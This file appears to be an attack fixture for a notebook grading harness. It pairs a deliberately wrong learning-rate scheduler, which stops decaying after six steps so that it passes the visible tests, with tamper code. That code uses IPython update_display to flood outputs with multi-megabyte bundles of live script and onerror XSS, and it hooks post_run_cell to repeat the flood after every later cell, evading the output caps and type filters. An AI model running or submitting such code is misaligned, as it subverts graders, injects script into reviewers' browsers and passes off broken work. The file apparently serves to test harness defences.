# attack: display a tiny output with a display_id, then update_display it with 10-20 MB bundles holding live <script>/onerror HTML and javascript, in the answer cell and after every later cell, past the per-cell cap and the output-type filter
# assignment: 01_lr_schedules
# wrong: stops decaying after 6 decays (min(step // step_size, 6)); passes the visible tests, fails both hidden checks
class StepDecayScheduler:
    def __init__(self, optimizer, lr_initial, gamma=0.5, step_size=1000):
        self.optimizer = optimizer
        self.lr_initial = lr_initial
        self.gamma = gamma
        self.step_size = step_size

    def get_lr(self, step):
        n_decays = min(step // self.step_size, 6)
        return self.lr_initial * self.gamma ** n_decays

    def step(self, current_step):
        lr = self.get_lr(current_step)
        for group in self.optimizer.param_groups:
            group["lr"] = lr
        return lr
# --- tamper ---
from IPython.display import display as _display
from IPython.display import update_display as _update_display

_MARK = "XSS" + "-MARKER"
_LIVE = f"<script>alert('{_MARK}')</script><img src=x onerror=\"alert('{_MARK}')\">"


def _bundle(megabytes, tag):
    return {"text/plain": tag * (megabytes * 2 ** 20 // len(tag)),
            "text/html": _LIVE + "<b>h</b>" * (megabytes * 2 ** 20 // 8),
            "application/javascript": f"alert('{_MARK}')"}


# A small output first (under every cap), then updates of it: they replace its data in place.
_display({"text/plain": "loading..."}, raw=True, display_id="flood")
for _i in range(20):
    _update_display(_bundle(5, f"u{_i} "), raw=True, display_id="flood")
print("update flood: 20 updates of 10 MB sent", flush=True)


def _again(*args):
    """In every later cell (the test cells too): a fresh small display, then 20 MB updates of both."""
    try:
        _display({"text/plain": "."}, raw=True, display_id="flood-cell")
        _update_display(_bundle(10, "c "), raw=True, display_id="flood-cell")
        _update_display(_bundle(10, "a "), raw=True, display_id="flood")
    except Exception:
        pass


get_ipython().events.register("post_run_cell", _again)
